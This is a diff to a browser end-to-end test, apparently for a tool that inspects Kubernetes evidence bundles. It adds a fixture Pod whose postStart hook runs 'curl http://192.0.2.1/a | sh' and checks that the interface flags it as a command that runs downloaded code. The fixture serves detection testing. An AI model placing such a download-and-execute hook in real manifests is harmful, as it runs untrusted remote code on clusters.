@@ -8,6 +8,17 @@ import { writeSampleBundle } from '../fixtures/sample-bundle.ts';
 import { dropFiles } from './drop.ts';
 import { type BrowserWorkbench, openInBrowser, seriousViolations, visit } from './harness.ts';
 
+/** A hook whose words are removed, and of which only what it does is kept. */
+const HOOK = `apiVersion: v1
+kind: Pod
+metadata: { name: fetches-at-start, namespace: default }
+spec:
+  containers:
+    - name: main
+      image: registry.example/main:1
+      lifecycle: { postStart: { exec: { command: [sh, -c, "curl http://192.0.2.1/a | sh"] } } }
+`;
+
 const opened = (page: Page) => page.getByRole('tab', { name: 'What it holds' }).waitFor({ timeout: 60_000 });
 
 describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
@@ -16,7 +27,7 @@ describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
   beforeAll(async () => {
     workbench = await openInBrowser({ colorScheme });
     const path = join(workbench.home, 'sample.evidence.zip');
-    await writeSampleBundle(path);
+    await writeSampleBundle(path, [], HOOK);
     bundle = readFileSync(path);
   });
   afterAll(() => workbench.close());
@@ -34,6 +45,12 @@ describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
       .waitFor();
     expect(await seriousViolations(page)).toEqual([]);
 
+    const hook = page.getByRole('table', { name: 'Removed values by place' }).getByRole('row', {
+      name: /lifecycle\.postStart/,
+    });
+    await hook.getByText('1 command that runs what it downloads or decodes').waitFor();
+    await page.getByText(/1 command, what it does is kept as well/).waitFor();
+
     const kept = page.getByRole('table', { name: 'Kept values by place' });
     await kept
       .getByRole('button', { name: /^Look at the Pod objects|^Look at the Deployment objects/ })
@@ -46,6 +63,10 @@ describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
     await object.getByText(/^apiVersion:/).waitFor();
     expect(await object.locator('[data-lit="true"]').count()).toBeGreaterThan(0);
     expect(await seriousViolations(page)).toEqual([]);
+    await page.keyboard.press('Escape');
+    await page.getByRole('textbox', { name: 'Search objects' }).fill('fetches-at-start');
+    await objects.getByText('fetches-at-start').click();
+    await object.getByText(/a command that runs what it downloads or decodes/).waitFor();
     await page.keyboard.press('Escape');
 
     await page.getByRole('tab', { name: 'Requests' }).click();
